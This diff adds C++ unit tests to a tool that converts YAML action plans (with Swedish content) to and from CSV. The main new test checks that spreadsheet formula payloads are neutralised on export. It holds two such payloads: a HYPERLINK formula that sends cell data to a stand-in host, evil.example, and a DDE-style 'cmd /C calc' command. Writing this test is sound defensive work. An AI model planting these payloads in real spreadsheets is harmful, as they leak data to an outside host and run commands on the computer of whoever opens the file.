@@ -108,6 +108,29 @@ TEST_CASE("the CSV a plan is published as reads back to the same actions, report
   CHECK(a.partners == plan->actions[0].partners);
 }
 
+TEST_CASE("formula payloads in a plan are neutralised in its CSV and read back unchanged") {
+  Diagnostics d;
+  std::string yaml = kPlan;
+  const std::string hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klicka\")";
+  const std::string calc = "@SUM(1+1)*cmd|' /C calc'!A0";
+  yaml.replace(yaml.find("Samla mottagandet"), 17, "'" + hyperlink + "'");
+  yaml.replace(yaml.find("Socialnämnden"), std::string("Socialnämnden").size(), "\"" + calc + "\"");
+  auto plan = parse(yaml, d);
+  INFO((d.items().empty() ? "" : d.items()[0].to_string()));
+  REQUIRE(plan);
+  REQUIRE(plan->actions[0].title == hyperlink);
+  const std::string csv = write_plan_csv(plan->actions);
+  CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
+  CHECK(csv.find(",'@SUM(1+1)") != std::string::npos);
+  CHECK(csv.find(",=") == std::string::npos);
+  CHECK(csv.find(",@") == std::string::npos);
+  auto back = read_plan_csv(csv, "plan.csv", d);
+  REQUIRE(back);
+  CHECK((*back)[0].title == hyperlink);
+  CHECK((*back)[0].responsible == calc);
+  CHECK(write_plan_csv(*back) == csv);
+}
+
 TEST_CASE("a plan may keep its actions in the CSV file beside it") {
   Diagnostics d;
   auto yaml_plan = parse(kPlan, d);
@@ -128,6 +151,8 @@ TEST_CASE("bad action fields are reported at their line and column") {
         kPath + ":7:15: the deadline 'innan januari 2014' (last day 2013-12-31) is before the start '2014-03-01'");
   CHECK(first_error(head + "    progress: 150\n") ==
         kPath + ":6:15: 'progress' is 150, but a percentage must be from 0 to 100");
+  CHECK(first_error(head + "    weight: 1e308\n") ==
+        kPath + ":6:13: 'weight' is '1e308', but must be a number above 0 and at most 1000000 (e.g. 1, 2 or 0.5)");
   CHECK(first_error(head + "    progress: mycket\n") ==
         kPath + ":6:15: 'progress' is 'mycket', but must be a whole number from 0 to 100");
   CHECK(first_error(head + "    status: in progress\n") ==
